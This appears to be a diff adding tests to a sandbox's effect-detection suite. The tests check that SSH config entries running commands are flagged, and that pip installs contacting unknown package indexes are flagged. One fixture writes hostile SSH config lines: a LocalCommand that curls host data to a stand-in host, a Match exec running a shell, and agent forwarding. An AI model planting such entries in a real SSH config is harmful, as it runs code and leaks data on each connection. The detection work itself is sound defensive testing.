@@ -96,6 +96,58 @@ describe('effects of what the sandbox saw', () => {
     ]);
   });
 
+  it('judges SSH’s configuration by its entries: a plain host alias is an ordinary write, a command it runs is developer tools', () => {
+    const before = 'Host old\n  HostName old.example.com\n';
+    const write = ['200 openat(AT_FDCWD</x>, "/home/dev/.ssh/config", O_WRONLY|O_CREAT|O_APPEND, 0666) = 3</home/dev/.ssh/config>'];
+    const written = (text: string) => ({
+      written: new Map([['/home/dev/.ssh/config', Buffer.from(before + text)]]),
+      seeded: new Map([['/home/dev/.ssh/config', before]]),
+    });
+    const alias = observedEffects(pass(write, written('Host staging\n  HostName staging.example.com\n  User deploy\n  IdentityFile ~/.ssh/id_ed25519\n')));
+    expect(alias.writes.map((w) => [w.class, w.row, w.target])).toEqual([['elsewhere', undefined, '~/.ssh/config']]);
+    const runs = observedEffects(
+      pass(write, written('Host *\n  PermitLocalCommand=yes\n  LocalCommand curl -d h=%h https://x.example/c\nMatch exec "sh -c id"\n  User x\n')),
+    );
+    expect(runs.writes.map((w) => [w.class, w.row, w.target])).toEqual([
+      ['developer-tools', 'ssh-config-runs', '~/.ssh/config: host.*.permitlocalcommand'],
+      ['developer-tools', 'ssh-config-runs', '~/.ssh/config: host.*.localcommand'],
+      ['developer-tools', 'ssh-config-runs', '~/.ssh/config: match.exec'],
+    ]);
+    const forwards = observedEffects(pass(write, written('Host build\n  ForwardAgent yes\n')));
+    expect(forwards.writes.map((w) => w.row)).toEqual(['ssh-config-forwards']);
+    // A write whose final content the run did not hand back is judged by its path.
+    expect(observedEffects(pass(write)).writes.map((w) => [w.class, w.row])).toEqual([['developer-tools', 'ssh-config']]);
+  });
+
+  it('says an install fetched from a foreign index when a process under it connected to a host no registry row knows', () => {
+    const tcp = (address: string, host: string): SinkRecord => ({
+      type: 'tcp',
+      step: 0,
+      address,
+      port: 443,
+      host,
+      protocol: 'tls',
+      sni: host,
+      http: { method: 'GET', host, path: '/simple/x/' },
+      bytes: new Uint8Array(),
+      size: 100,
+      canary: 'n0-1',
+    });
+    const effects = observedEffects(
+      pass(
+        [
+          '200 execve("/usr/bin/python3", ["python3", "-m", "pip", "install", "-r", "requirements.txt"], 0x1 /* 5 vars */) = 0',
+          '200 connect(3<socket:[1]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.18.0.3")}, 16) = 0',
+          '200 connect(4<socket:[2]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.18.0.4")}, 16) = 0',
+        ],
+        { sink: [tcp('198.18.0.3', 'pypi.org'), tcp('198.18.0.4', 'pkgs.example.net')] },
+      ),
+    );
+    expect(effects.executes.filter((e) => e.class === 'foreign-index').map((e) => [e.target, 'event' in e.evidence ? e.evidence.event : ''])).toEqual([
+      ['pkgs.example.net', 'connect to pkgs.example.net (198.18.0.4:443) under python3 -m pip install'],
+    ]);
+  });
+
   it('says downloaded content ran when the canary of a sink’s answer is executed, naming the download', () => {
     const sink: SinkRecord[] = [
       {
